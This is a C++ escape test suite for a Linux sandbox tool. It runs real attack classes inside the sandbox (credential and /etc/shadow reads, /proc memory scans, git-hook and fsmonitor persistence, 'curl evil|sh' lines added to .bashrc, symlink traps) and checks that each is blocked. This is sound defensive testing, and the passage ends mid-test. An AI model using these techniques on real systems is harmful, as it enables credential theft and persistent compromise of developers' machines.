// Escape suite: each TEST_P performs one REAL attack class inside `moat run` and checks the outcome
// from outside (host files, captured output, host processes), with an unconfined control that proves
// the attack works when moat is absent. Parameterised over {root, user}.
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <filesystem>
#include <thread>

#include "sandbox_harness.h"

namespace moat::testing {
namespace {

using P = std::vector<std::string>;

class Escape : public SandboxTest {
 protected:
  // Asserts that CANARY appears nowhere in what the run printed (stdout, stderr, terminal).
  static void expect_no_canary(const RunResult& r, const std::string& canary, const std::string& what) {
    EXPECT_EQ(r.all().find(canary), std::string::npos)
        << what << ": canary leaked out of the sandbox\n" << r.describe();
  }
  // Asserts that the run is a probe report refused with exactly ERRNO.
  static void expect_refused(const RunResult& r, const std::string& errno_name, const std::string& what) {
    EXPECT_EQ(r.probe_errno(), errno_name) << what << "\n" << r.describe();
  }
  // Runs an attack under moat and checks that it really ran inside (the probe reported): a test
  // whose command never started would pass vacuously.
  RunResult attack(const std::vector<std::string>& cmd, const std::vector<std::string>& moat_args = {},
                   RunSpec spec = {}) {
    RunResult r = sb().moat(cmd, moat_args, std::move(spec));
    EXPECT_NE(r.probe_line(), "") << "the attack never ran inside the sandbox; a pass would be vacuous\n"
                                  << r.describe();
    return r;
  }
  // The control: the same probe unconfined must succeed, or the sandboxed refusal proves nothing.
  static void expect_control_ok(const RunResult& r, const std::string& what) {
    EXPECT_TRUE(r.probe_ok()) << "CONTROL (no moat) failed, the attack would prove nothing: " << what
                              << "\n" << r.describe();
  }
};

// A listening unix socket owned by the test; counts connections it accepted (non-blocking).
class UnixListener {
 public:
  // PATH empty + ABSTRACT set: abstract socket @ABSTRACT.
  UnixListener(const std::string& path, const std::string& abstract_name, uid_t uid, gid_t gid) {
    fd_ = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    sockaddr_un sa{};
    sa.sun_family = AF_UNIX;
    socklen_t len = sizeof sa;
    if (!path.empty()) {
      unlink(path.c_str());
      memcpy(sa.sun_path, path.data(), path.size());
    } else {
      memcpy(sa.sun_path + 1, abstract_name.data(), abstract_name.size());
      len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + abstract_name.size());
    }
    ok_ = fd_ >= 0 && bind(fd_, reinterpret_cast<sockaddr*>(&sa), len) == 0 && listen(fd_, 16) == 0;
    if (ok_ && !path.empty()) {
      chmod(path.c_str(), 0777);  // reachable by the user identity in the control
      if (chown(path.c_str(), uid, gid) != 0) {
      }
    }
    path_ = path;
  }
  ~UnixListener() {
    if (fd_ >= 0) close(fd_);
    if (!path_.empty()) unlink(path_.c_str());
  }
  bool ok() const { return ok_; }
  int accepted() {
    for (;;) {
      int c = accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
      if (c < 0) break;
      ++count_;
      close(c);
    }
    return count_;
  }

 private:
  int fd_ = -1;
  bool ok_ = false;
  int count_ = 0;
  std::string path_;
};

// --- Secrets --------------------------------------------------------------------------------------

// Guards: shai-hulud npm worm (2025) and the Nx "s1ngularity" compromise reading ~/.npmrc, gh tokens,
// ~/.ssh and cloud credentials; ua-parser-js (2021) credential stealer.
TEST_P(Escape, ReadSecretStores) {
  for (const auto& s : sb().secrets()) {
    SCOPED_TRACE(s.rel);
    RunResult r = attack(Sandbox::probe({"read", sb().in_home(s.rel)}));
    expect_no_canary(r, s.canary, "read ~/" + s.rel + " by its host path");
    // The sandbox's own $HOME, whatever it is, must not hold the secret either.
    RunResult r2 = attack({"/bin/sh", "-c", "cat \"$HOME/" + s.rel + "\"; ls -la \"$HOME\"; ./moat-probe id"});
    expect_no_canary(r2, s.canary, "cat $HOME/" + s.rel + " inside");
  }
  RunResult control = sb().direct(Sandbox::probe({"read", sb().in_home(".npmrc")}));
  EXPECT_NE(control.out.find(sb().canary("npmrc")), std::string::npos) << control.describe();
}

// Guards: the same stores when the whole home is granted writable (`--allow-write ~`; the home is
// never the project itself, see HomeIsNeverTheProject): the masks must still win over the grant.
TEST_P(Escape, SecretsWhenHomeIsGranted) {
  std::string bashrc_before = file_sha(sb().in_home(".bashrc"));
  for (const auto& s : sb().secrets()) {
    SCOPED_TRACE(s.rel);
    RunResult r =
        attack(Sandbox::probe({"read", sb().in_home(s.rel)}), {"--allow-write", sb().home()});
    expect_no_canary(r, s.canary, "read ~/" + s.rel + " with the home granted");
  }
  RunResult w = attack(Sandbox::probe({"append", sb().in_home(".bashrc"), "curl evil|sh"}),
                       {"--allow-write", sb().home()});
  EXPECT_EQ(file_sha(sb().in_home(".bashrc")), bashrc_before) << w.describe();
}

// Attacks that an unprivileged user cannot make even without moat (reading /etc/shadow, writing
// host sysctls): as that user they could not fail, so they run as root only.
class RootEscape : public Escape {};

// Guards: /etc/shadow readable through a sandbox (bubblewrap tests/test-run.sh --bind /etc/shadow).
TEST_P(RootEscape, ReadHostShadow) {
  std::string shadow = read_file("/etc/shadow");
  ASSERT_FALSE(shadow.empty());
  std::string first = shadow.substr(0, shadow.find('\n'));
  RunResult r = attack(Sandbox::probe({"read", "/etc/shadow"}));
  EXPECT_EQ(r.out.find(first), std::string::npos) << r.describe();
  EXPECT_FALSE(r.probe_ok()) << r.describe();
}

// Guards: tokens in the environment (GITHUB_TOKEN exfiltration by tj-actions/changed-files, 2025;
// npm worms dumping process.env).
TEST_P(Escape, EnvironmentSecrets) {
  RunSpec spec;
  spec.env = {{"GITHUB_TOKEN", sb().canary("ghtoken")},
              {"AWS_SECRET_ACCESS_KEY", sb().canary("awskey")},
              {"AWS_ACCESS_KEY_ID", sb().canary("awsid")},
              {"NPM_TOKEN", sb().canary("npmtoken")},
              {"MY_SERVICE_SECRET", sb().canary("secret")},
              {"OPENAI_API_KEY", sb().canary("apikey")}};
  RunResult r = sb().moat({"/usr/bin/env"}, {}, spec);
  EXPECT_EQ(r.status, 0) << r.describe();
  EXPECT_NE(r.out.find("PATH="), std::string::npos) << "env did not run\n" << r.describe();
  for (const auto& [k, v] : spec.env) expect_no_canary(r, v, k);
  RunResult control = sb().direct({"/usr/bin/env"}, spec);
  EXPECT_NE(control.out.find(sb().canary("ghtoken")), std::string::npos) << control.describe();
}

// Guards: the filtered environment recovered from another process INSIDE the sandbox: the
// tj-actions/changed-files compromise (CVE-2025-30066) dumped the CI runner's memory through
// /proc/PID/mem to harvest secrets; /proc/PID/environ of a helper forked before the filter leaks the
// same. Any pre-exec process in the sandbox (a reaper forked from moat) must not hold them.
TEST_P(Escape, EnvironmentSecretsViaProc) {
  std::string token = sb().canary("ghtoken");
  RunSpec spec;
  spec.env = {{"GITHUB_TOKEN", token}, {"NPM_TOKEN", sb().canary("npmtoken")}};
  RunResult scan = attack(Sandbox::probe({"environ-scan", token}), {}, spec);
  EXPECT_EQ(scan.probe_errno(), "ENOENT") << "a process in the sandbox has the unfiltered env\n"
                                          << scan.describe();
  RunResult one = attack(Sandbox::probe({"environ", "1"}), {}, spec);
  expect_no_canary(one, token, "/proc/1/environ");
  std::string reversed(token.rbegin(), token.rend());
  RunResult mem = attack(Sandbox::probe({"mem-scan", reversed}), {}, spec);
  EXPECT_FALSE(mem.probe_ok()) << "the token is readable in a sandbox process's memory\n" << mem.describe();

  expect_control_ok(sb().direct(Sandbox::probe({"environ-scan", token}), spec), "environ-scan");
  // Unconfined, the token is found in the memory of a process holding it (the host sleep).
  sb().spawn_host_sleep(token);
  expect_control_ok(sb().direct(Sandbox::probe({"mem-scan", reversed})), "mem-scan");
}

// Guards: the sandboxed command reaching moat's own processes: CVE-2019-5736 (runc: the container
// overwrote the runtime binary through /proc/PID/exe) and forging the supervisor's verdict through a
// pipe reachable as /proc/1/fd/N (exit status 125 promises "nothing started").
TEST_P(Escape, SupervisorChannelForgery) {
  std::string moat_before = file_sha(moat_binary());
  RunResult exe = attack(Sandbox::probe({"open-w", "/proc/1/exe"}));
  EXPECT_FALSE(exe.probe_ok()) << exe.describe();
  EXPECT_EQ(file_sha(moat_binary()), moat_before);
  // A fixed-size "setup failed" report (kind=1, step=0, err=EPERM, index=-1, status=0) into every
  // descriptor of pid 1, then the command does its work and exits 0.
  const std::string forged = "01000000" "00000000" "01000000" "ffffffff" "00000000";
  RunResult r = attack({"/bin/sh", "-c",
                        "for f in /proc/1/fd/*; do ./moat-probe write-hex $f " + forged +
                            "; done; ./moat-probe write ran.txt yes; exit 0"});
  EXPECT_TRUE(exists(sb().in_project("ran.txt"))) << r.describe();
  EXPECT_EQ(r.status, 0) << "the command's verdict was forged from inside\n" << r.describe();
}

// Guards: reading other processes' /proc/PID/environ (secrets of the developer's shell, CI runners:
// the tj-actions memory/environ dump).
TEST_P(Escape, HostProcessEnviron) {
  std::string canary = sb().canary("hostenv");
  pid_t host = sb().spawn_host_sleep(canary);
  ASSERT_GT(host, 0);
  RunResult control = sb().direct(Sandbox::probe({"environ", std::to_string(host)}));
  ASSERT_NE(control.out.find(canary), std::string::npos) << "CONTROL\n" << control.describe();

  RunResult r = attack(Sandbox::probe({"environ", std::to_string(host)}));
  expect_no_canary(r, canary, "read /proc/<host pid>/environ");
  // Pids differ inside a pid namespace: scan every environ the sandbox can see.
  RunResult scan = attack(Sandbox::probe({"environ-scan", canary}));
  EXPECT_EQ(scan.probe_errno(), "ENOENT") << scan.describe();
  RunResult scan_control = sb().direct(Sandbox::probe({"environ-scan", canary}));
  expect_control_ok(scan_control, "environ-scan");
}

// --- Writes outside the project / persistence -----------------------------------------------------

// Guards: writes to host /tmp (dropped payloads, symlink races on shared /tmp), /etc, and files
// outside the project (ua-parser-js and event-stream dropped binaries outside the package).
TEST_P(Escape, WriteOutsideProject) {
  std::string host_tmp = "/tmp/moat-escape-" + sb().tag();
  std::string host_etc = "/etc/moat-escape-" + sb().tag();
  sb().remove_at_exit(host_tmp);
  sb().remove_at_exit(host_etc);
  std::string out_file = sb().in_outside("dropped");
  std::string existing = sb().in_outside("secret.txt");
  std::string before = file_sha(existing);

  RunResult r1 = attack(Sandbox::probe({"write", host_tmp, "pwned"}));
  EXPECT_FALSE(exists(host_tmp)) << "the sandbox's /tmp is the host's /tmp\n" << r1.describe();
  RunResult r2 = attack(Sandbox::probe({"write", host_etc, "pwned"}));
  EXPECT_FALSE(exists(host_etc)) << r2.describe();
  EXPECT_FALSE(r2.probe_ok()) << r2.describe();
  RunResult r3 = attack(Sandbox::probe({"write", out_file, "pwned"}));
  EXPECT_FALSE(exists(out_file)) << r3.describe();
  EXPECT_FALSE(r3.probe_ok()) << r3.describe();
  RunResult r4 = attack(Sandbox::probe({"write", existing, "pwned"}));
  EXPECT_EQ(file_sha(existing), before) << r4.describe();
  // /etc/passwd: only opened for writing (never modified, even if the sandbox is broken).
  RunResult r5 = attack(Sandbox::probe({"open-w", "/etc/passwd"}));
  EXPECT_FALSE(r5.probe_ok()) << r5.describe();

  RunResult control = sb().direct(Sandbox::probe({"write", out_file, "control"}));
  expect_control_ok(control, "write outside/");
  EXPECT_EQ(read_file(out_file), "control");
}

// Guards: persistence through shell rc files and desktop autostart (many npm/PyPI stealers append to
// ~/.bashrc / ~/.profile; Linux malware drops ~/.config/autostart/*.desktop).
TEST_P(Escape, PersistShellRcAndAutostart) {
  std::string bashrc = sb().in_home(".bashrc");
  std::string profile = sb().in_home(".profile");
  std::string zshrc = sb().in_home(".zshrc");  // does not exist yet
  std::string autostart = sb().in_home(".config/autostart/x.desktop");
  std::string bashrc_before = file_sha(bashrc), profile_before = file_sha(profile);

  attack(Sandbox::probe({"append", bashrc, "\ncurl evil | sh\n"}));
  attack(Sandbox::probe({"write", profile, "curl evil | sh\n"}));
  attack(Sandbox::probe({"write", zshrc, "curl evil | sh\n"}));
  attack({"/bin/sh", "-c", "mkdir -p " + sb().in_home(".config/autostart") + "; ./moat-probe write " +
                                  autostart + " '[Desktop Entry]'"});
  // The same through the sandbox's own idea of $HOME.
  attack({"/bin/sh", "-c",
             "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; mkdir -p \"$HOME/.config/autostart\"; "
             "echo x > \"$HOME/.config/autostart/y.desktop\"; echo x > \"$HOME/.zshrc\"; ./moat-probe id"});
  EXPECT_EQ(file_sha(bashrc), bashrc_before);
  EXPECT_EQ(file_sha(profile), profile_before);
  EXPECT_FALSE(exists(zshrc));
  EXPECT_FALSE(exists(autostart));
  EXPECT_FALSE(exists(sb().in_home(".config/autostart/y.desktop")));

  RunResult control = sb().direct(Sandbox::probe({"append", bashrc, "# control\n"}));
  expect_control_ok(control, "append ~/.bashrc");
}

// Guards: .git/hooks and .git/config persistence (CVE-2024-32002 style hook planting; malicious
// core.fsmonitor / core.hooksPath in .git/config run on the developer's next git command).
TEST_P(Escape, GitHooksAndConfig) {
  std::string why;
  ASSERT_TRUE(sb().git_init(&why)) << why;
  std::string hooks = sb().in_project(".git/hooks");
  std::string config = sb().in_project(".git/config");
  std::string pre_commit = hooks + "/pre-commit";
  std::string post_checkout = hooks + "/post-checkout";
  sb().write_file(post_checkout, "#!/bin/sh\n# legit hook\n", 0755);
  std::string config_before = file_sha(config), post_before = file_sha(post_checkout);

  // A hook that does not exist yet, one that exists, and the config.
  attack(Sandbox::probe({"write", pre_commit, "#!/bin/sh\ncurl evil|sh\n"}));
  attack(Sandbox::probe({"write", post_checkout, "#!/bin/sh\ncurl evil|sh\n"}));
  attack(Sandbox::probe({"append", config, "\n[core]\n\tfsmonitor = curl evil|sh\n"}));
  sb().moat({"/usr/bin/git", "config", "core.hooksPath", sb().outside()});
  // Through a symlink planted in the project, and by replacing the file.
  attack({"/bin/sh", "-c", "ln -s .git/hooks/pre-commit evil-link; ./moat-probe write evil-link x"});
  attack({"/bin/sh", "-c",
             "./moat-probe write cfg.new '[core]\n\thooksPath=/tmp'; ./moat-probe rename cfg.new .git/config"});
  attack({"/bin/sh", "-c", "./moat-probe rename .git/hooks .git/hooks-old; mkdir .git/hooks; "
                              "./moat-probe write .git/hooks/pre-commit x"});

  EXPECT_FALSE(exists(pre_commit)) << "hook planted";
  EXPECT_EQ(file_sha(post_checkout), post_before) << "existing hook modified";
  EXPECT_EQ(file_sha(config), config_before) << "config modified: " << read_file(config);
  EXPECT_TRUE(exists(hooks)) << ".git/hooks was renamed away";

  RunResult control = sb().direct(Sandbox::probe({"write", pre_commit, "#!/bin/sh\n"}));
  expect_control_ok(control, "write .git/hooks/pre-commit");
}

// Guards: the same persistence through git's indirections rather than the two protected paths:
// `.git/commondir` makes git read config (and hooks) from another directory, so a core.fsmonitor the
// attacker writes there runs on the developer's next `git status` (the CVE-2022-24765 /
// CVE-2024-32002 class: attacker-controlled git config executes code).
TEST_P(Escape, GitCommondirRedirect) {
  std::string why;
  ASSERT_TRUE(sb().git_init(&why)) << why;
  std::string marker = sb().in_outside("git-pwned");
  RunResult r = attack({"/bin/sh", "-c",
                        "mkdir -p evil/refs evil/objects; cp .git/HEAD evil/; "
                        "printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"touch " +
                            marker + "; false\"\n' > evil/config; "
                            "./moat-probe write .git/commondir ../evil"});
  // The developer, later, on the host:
  RunResult host = sb().direct({"/usr/bin/git", "status", "--porcelain"});
  EXPECT_FALSE(exists(marker)) << "attacker's fsmonitor ran in the host's git\n"
                               << "inside: " << r.describe() << "\nhost git: " << host.describe();
  EXPECT_FALSE(exists(sb().in_project(".git/commondir"))) << r.describe();
}

// Guards: the hooks git really runs when the repository moved them (core.hooksPath: husky's .husky/_,
// whose shims run .husky/pre-commit), configuration included from the work tree ([include] path),
// and a hook runner's command list (.pre-commit-config.yaml): each is a command the developer's next
// `git commit` runs outside the sandbox. Checked from outside, then by committing on the host.
TEST_P(Escape, GitMovedHooksIncludedConfigAndHookRunners) {
  std::string why;
  ASSERT_TRUE(sb().git_init(&why)) << why;
  ASSERT_EQ(sb().direct({"/usr/bin/git", "config", "core.hooksPath", ".husky/_"}).status, 0);
  ASSERT_EQ(sb().direct({"/usr/bin/git", "config", "include.path", "../.gitconfig.team"}).status, 0);
  std::string shim = sb().in_project(".husky/_/pre-commit");
  std::string hook = sb().in_project(".husky/pre-commit");
  std::string team = sb().in_project(".gitconfig.team");
  std::string runner = sb().in_project(".pre-commit-config.yaml");
  ASSERT_EQ(sb().direct({"/bin/mkdir", "-p", sb().in_project(".husky/_")}).status, 0);
  sb().write_file(shim, "#!/bin/sh\nexec sh .husky/pre-commit\n", 0755);
  sb().write_file(hook, "#!/bin/sh\ntrue\n", 0755);
  sb().write_file(team, "[core]\n\tautocrlf = false\n");
  sb().write_file(runner, "repos: []\n");
  const std::string shim_before = file_sha(shim), hook_before = file_sha(hook),
                    team_before = file_sha(team), runner_before = file_sha(runner);
  const std::string marker = sb().in_outside("hook-ran");
  const std::string payload = "#!/bin/sh\ntouch " + marker + "\n";

  attack(Sandbox::probe({"write", hook, payload}));
  attack(Sandbox::probe({"write", shim, payload}));
  attack(Sandbox::probe({"write", sb().in_project(".husky/_/commit-msg"), payload}));
  attack(Sandbox::probe({"append", team, "\n[core]\n\tfsmonitor = \"touch " + marker + "; false\"\n"}));
  attack(Sandbox::probe(
      {"append", runner, "\n  - repo: local\n    hooks: [{id: x, entry: touch, language: system}]\n"}));
  attack({"/bin/sh", "-c", "./moat-probe rename .husky .husky-old; mkdir -p .husky/_; "
                           "./moat-probe write .husky/_/pre-commit '" + payload + "'"});

  EXPECT_EQ(file_sha(hook), hook_before) << "the hook husky runs was changed";
  EXPECT_EQ(file_sha(shim), shim_before) << "husky's shim was changed";
  EXPECT_FALSE(exists(sb().in_project(".husky/_/commit-msg"))) << "a hook was planted";
  EXPECT_EQ(file_sha(team), team_before) << "included config changed: " << read_file(team);
  EXPECT_EQ(file_sha(runner), runner_before) << "pre-commit's command list changed";
  EXPECT_FALSE(exists(sb().in_project(".husky-old"))) << ".husky was renamed away";
  // The developer's next commit, on the host.
  RunResult host = sb().direct({"/usr/bin/git", "-c", "user.name=t", "-c", "user.email=t@t.test",
                                "commit", "-q", "--allow-empty", "-m", "after the install"});
  EXPECT_EQ(host.status, 0) << host.describe();
  EXPECT_FALSE(exists(marker)) << "the attacker's hook ran in the host's git commit";

  RunResult control = sb().direct(Sandbox::probe({"write", hook, "#!/bin/sh\ntrue\n"}));
  expect_control_ok(control, "write .husky/pre-commit");
}

// Guards: a trap left in the project for after the run. Creating a symlink needs only the
// project (writable), so no layer refuses `ln -s ~/.bashrc build.log`; the developer's next
// `make > build.log`, outside any sandbox, would then write their shell start-up file. Every
// source (the watch as root, the file notifier without it) must see the link, and the summary
// must name it with the protection it aims at; links to the system stay quiet.
TEST_P(Escape, SymlinkTrapsAreReported) {
  const std::string audit = sb().in_outside("audit.jsonl");
  RunResult r = sb().moat({"/bin/sh", "-c",
                           "ln -s \"$HOME/.bashrc\" build.log; ln -s ../../../../../../..\"$HOME\"/.ssh/id_ed25519 "
                           "key.txt; ln -s /usr/bin/python3 py"},
                          {"--audit", audit});
  ASSERT_EQ(r.status, 0) << r.describe();
  EXPECT_NE(r.err.find("symlink-trap: "), std::string::npos) << r.describe();
  EXPECT_NE(r.err.find(sb().in_project("build.log") + " a symlink to " + sb().in_home(".bashrc") +
                       " (shell-rc)"),
            std::string::npos)
      << r.describe();
  EXPECT_NE(r.err.find(sb().in_project("key.txt") + " a symlink to " +
                       sb().in_home(".ssh/id_ed25519")),
            std::string::npos)
      << r.describe();
  EXPECT_EQ(r.err.find(sb().in_project("py") + " a symlink"), std::string::npos) << r.describe();
  const std::string text = read_file(audit);
  EXPECT_NE(text.find("\"kind\":\"symlink\""), std::string::npos) << text;
  EXPECT_NE(text.find("\"target_path\":\"" + sb().in_home(".bashrc") + "\""), std::string::npos)
      << text;
}

// Guards: the account of a run and moat's own outputs, when they live in the project. The command
// must not rewrite, truncate, delete or replace the --audit file while it runs (anti-forensics),
// and a symlink it leaves where moat will write (the audit file of the next run, `moat learn
// --out`, `moat report --html`) must not make moat, possibly root, write through it.
TEST_P(Escape, AuditFileAndMoatOutputsCannotBeTurned) {
  const std::string audit = sb().in_project("install.jsonl");
  const std::string victim = sb().in_outside("victim");
  sb().write_file(victim, "victim\n");
  RunResult r = sb().moat(
      {"/bin/sh", "-c",
       "(echo '{\"v\":1,\"kind\":\"run\"}' > install.jsonl); (: > install.jsonl); rm -f install.jsonl; "
       "mv install.jsonl elsewhere.jsonl; ln -sf " + victim + " install.jsonl; "
       "ln -s " + victim + " next.jsonl; ln -s " + victim + " learned.yaml; ln -s " + victim +
           " page.html; true"},
      {"--audit", audit});
  EXPECT_EQ(r.status, 0) << r.describe();
  struct stat st {};
  ASSERT_EQ(::lstat(audit.c_str(), &st), 0);
  EXPECT_TRUE(S_ISREG(st.st_mode)) << "the audit file was replaced";
  const std::string text = read_file(audit);
  EXPECT_EQ(text.rfind("{\"argv\":", 0), 0u) << "the audit file was rewritten:\n" << text;
  EXPECT_NE(text.find("\"kind\":\"end\""), std::string::npos) << text;
  EXPECT_NE(r.err.find("audit-tamper"), std::string::npos) << r.describe();
  EXPECT_FALSE(exists(sb().in_project("elsewhere.jsonl")));

  RunResult next = sb().moat({"/bin/true"}, {"--audit", sb().in_project("next.jsonl")});
  EXPECT_EQ(next.status, 125) << next.describe();
  RunSpec learn;
  learn.argv = {moat_binary(), "learn", "-p", "base", "--out", "learned.yaml", "--", "/bin/true"};
  RunResult learned = sb().run(learn);
  EXPECT_EQ(learned.status, 0) << learned.describe();
  ASSERT_EQ(::lstat(sb().in_project("learned.yaml").c_str(), &st), 0);
  EXPECT_TRUE(S_ISREG(st.st_mode)) << "the planted link is still there";
  RunSpec html;
  html.argv = {moat_binary(), "report", audit, "--html", "page.html"};
  RunResult page = sb().run(html);
  EXPECT_NE(page.status, 0) << "wrote the report through a planted symlink\n" << page.describe();
  EXPECT_EQ(read_file(victim), "victim\n") << "moat wrote through a symlink the command planted";
}

// Guards: the CI checkout token in the repository's config. actions/checkout persists the job's
// token in .git/config (`http.<url>.extraheader`), and remotes often carry `user:token@`: a build
// step reads the project, so it must see a copy without them, while git inside keeps working.
TEST_P(Escape, GitConfigCredentialsAreNotReadable) {
  std::string why;
  ASSERT_TRUE(sb().git_init(&why)) << why;
  const std::string header = "AUTHORIZATION: basic MOAT-CHECKOUT-TOKEN-CANARY";
  ASSERT_EQ(
      sb().direct({"/usr/bin/git", "config", "http.https://host.test/.extraheader", header}).status,
      0);
  ASSERT_EQ(sb().direct({"/usr/bin/git", "config", "remote.origin.url",
                         "https://x-access-token:MOAT-REMOTE-TOKEN-CANARY@host.test/r.git"})
                .status,
            0);
  // And in the user's own ~/.gitconfig, which every command may read.
  ASSERT_EQ(sb().direct({"/usr/bin/git", "config", "--global",
                         "url.https://u:MOAT-HOME-TOKEN-CANARY@host.test/.insteadOf",
                         "https://host.test/"})
                .status,
            0);
  // A shell credential helper that prints the password itself.
  ASSERT_EQ(sb().direct({"/usr/bin/git", "config", "credential.https://host.test.helper",
                         "!f() { echo password=MOAT-HELPER-TOKEN-CANARY; }; f"})
                .status,
            0);
  // A submodule's own config: actions/checkout with `submodules: true` puts the token there too.
  ASSERT_EQ(sb().direct({"/bin/mkdir", "-p", sb().in_project(".git/modules/lib")}).status, 0);
  sb().write_file(sb().in_project(".git/modules/lib/config"),
                  "[core]\n\tbare = false\n[http \"https://host.test/\"]\n\textraheader = "
                  "AUTHORIZATION: basic MOAT-SUBMODULE-TOKEN-CANARY\n[remote \"origin\"]\n\turl = "
                  "https://x-access-token:MOAT-SUBURL-TOKEN-CANARY@host.test/lib.git\n");
  sb().write_file(sb().in_project(".gitmodules"),
                  "[submodule \"lib\"]\n\tpath = lib\n\turl = https://host.test/lib.git\n");
  const std::string config = sb().in_project(".git/config");
  const std::string before = file_sha(config);
  RunResult r =
      sb().moat({"/bin/sh", "-c",
                 "cat .git/config ~/.gitconfig .git/modules/lib/config; git config --list; "
                 "printf 'protocol=https\\nhost=host.test\\n\\n' | git credential fill; "
                 "grep -r TOKEN-CANARY .git 2>/dev/null; "
                 "git -c user.name=t -c user.email=t@t.test commit -q --allow-empty -m in "
                 "&& echo committed"});
  for (const char* token :
       {"MOAT-CHECKOUT-TOKEN-CANARY", "MOAT-REMOTE-TOKEN-CANARY", "MOAT-HOME-TOKEN-CANARY",
        "MOAT-HELPER-TOKEN-CANARY", "MOAT-SUBMODULE-TOKEN-CANARY", "MOAT-SUBURL-TOKEN-CANARY"}) {
    EXPECT_EQ(r.out.find(token), std::string::npos) << token << " was readable:\n" << r.describe();
    EXPECT_EQ(r.err.find(token), std::string::npos) << r.describe();
  }
  EXPECT_NE(r.out.find("url=https://host.test/r.git"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("url.https://host.test/.insteadof=https://host.test/"), std::string::npos)
      << "the rest of ~/.gitconfig should stay\n"
      << r.describe();
  EXPECT_NE(r.out.find("committed"), std::string::npos) << "git stopped working\n" << r.describe();
  EXPECT_EQ(file_sha(config), before) << "the real config changed";
  RunResult control = sb().direct(
      {"/bin/sh", "-c",
       "grep -c TOKEN-CANARY .git/config; grep -c TOKEN-CANARY .git/modules/lib/config"});
  EXPECT_EQ(control.out, "3\n2\n") << "CONTROL: the tokens are not in the real files\n"
                                   << control.describe();
}

// Guards: the developer's editor as a way out. VS Code obeys a trusted folder's
// .vscode/settings.json (a terminal profile's path, an interpreter or linter path are programs it
// starts), and an install has no reason to write it: the install profiles keep it read-only
// (base does not: projects legitimately change it). Checked from outside, for a new file and for
// an existing one.
TEST_P(Escape, InstallProfilesKeepEditorSettings) {
  ASSERT_EQ(sb().direct({"/bin/mkdir", "-p", sb().in_project(".vscode")}).status, 0);
  const std::string settings = sb().in_project(".vscode/settings.json");
  const std::string payload = "{\"terminal.integrated.profiles.linux\":{\"x\":{\"path\":\"" +
                              sb().in_outside("evil") + "\"}}}";
  for (const char* profile : {"npm", "pip"}) {
    ::unlink(settings.c_str());
    RunResult fresh = sb().moat(Sandbox::probe({"write", settings, payload}), {"-p", profile});
    EXPECT_NE(fresh.probe_line(), "") << profile << ": the probe never ran\n" << fresh.describe();
    EXPECT_FALSE(fresh.probe_ok()) << profile << ": settings.json was created\n"
                                   << fresh.describe();
    EXPECT_FALSE(exists(settings)) << profile;
    sb().write_file(settings, "{\"editor.tabSize\": 2}\n");
    const std::string before = file_sha(settings);
    RunResult changed = sb().moat(Sandbox::probe({"write", settings, payload}), {"-p", profile});
    EXPECT_NE(changed.probe_line(), "") << profile << ": the probe never ran\n"
                                        << changed.describe();
    EXPECT_FALSE(changed.probe_ok()) << profile << ": settings.json was rewritten\n"
                                     << changed.describe();
    EXPECT_EQ(file_sha(settings), before) << profile;
  }
  RunResult control = sb().direct(Sandbox::probe({"write", settings, payload}));
  expect_control_ok(control, "write .vscode/settings.json");
}

// Guards: CI definitions as a way to the repository's secrets. A workflow an install adds to
// .github/workflows (or a .gitlab-ci.yml) runs with the repository's secrets once the developer
// commits and pushes it; the install profiles keep them read-only, whether the directory exists or
// not. Checked from outside.
TEST_P(Escape, InstallProfilesKeepCiDefinitions) {
  const std::string workflows = sb().in_project(".github/workflows");
  const std::string planted = workflows + "/exfil.yml";
  const std::string gitlab = sb().in_project(".gitlab-ci.yml");
  for (bool existing : {false, true}) {
    if (existing) {
      ASSERT_EQ(sb().direct({"/bin/mkdir", "-p", workflows}).status, 0);
      sb().write_file(workflows + "/ci.yml", "on: push\n");
    }
    RunResult r = sb().moat({"/bin/sh", "-c",
                             "mkdir -p .github/workflows; ./moat-probe write " + planted +
                                 " 'on: push'; ./moat-probe write " + gitlab + " 'x: 1'"},
                            {"-p", "npm"});
    EXPECT_NE(r.probe_line(), "") << "the probe never ran\n" << r.describe();
    EXPECT_FALSE(exists(planted)) << (existing ? "existing" : "missing")
                                  << " dir: workflow planted\n"
                                  << r.describe();
    EXPECT_FALSE(exists(gitlab)) << r.describe();
    if (existing) {
      EXPECT_EQ(read_file(workflows + "/ci.yml"), "on: push\n");
    }
  }
  RunResult control = sb().direct(Sandbox::probe({"write", planted, "on: push"}));
  expect_control_ok(control, "write .github/workflows/exfil.yml");
}

// Guards: a submodule's own git directory (.git/modules/NAME): git obeys its config and hooks in
// the submodule, and `git status` in the project runs git there (`git submodule update` runs its
// post-checkout hook): the .git/config and .git/hooks persistence, one level down.
TEST_P(Escape, GitSubmoduleConfigAndHooks) {
  std::string why;
  ASSERT_TRUE(sb().git_init(&why)) << why;
  const std::string lib = sb().in_outside("lib");
  const std::vector<std::string> git = {"/usr/bin/git",
                                        "-c",
                                        "user.name=t",
                                        "-c",
                                        "user.email=t@t",
                                        "-c",
                                        "protocol.file.allow=always"};
  auto with_git = [&](std::vector<std::string> args) {
    std::vector<std::string> cmd = git;
    cmd.insert(cmd.end(), args.begin(), args.end());
    return sb().direct(cmd);
  };
  ASSERT_EQ(with_git({"init", "-q", "-b", "main", lib}).status, 0);
  ASSERT_EQ(with_git({"-C", lib, "commit", "-q", "--allow-empty", "-m", "l"}).status, 0);
  RunResult added = with_git({"submodule", "-q", "add", lib, "lib"});
  ASSERT_EQ(added.status, 0) << added.describe();
  const std::string config = sb().in_project(".git/modules/lib/config");
  const std::string hook = sb().in_project(".git/modules/lib/hooks/post-checkout");
  ASSERT_TRUE(exists(config));
  const std::string config_before = file_sha(config);
  const std::string marker = sb().in_outside("submodule-pwned");
  attack(Sandbox::probe(
      {"append", config, "\n[core]\n\tfsmonitor = \"touch " + marker + "; false\"\n"}));
  attack(Sandbox::probe({"write", hook, "#!/bin/sh\ntouch " + marker + "\n"}));
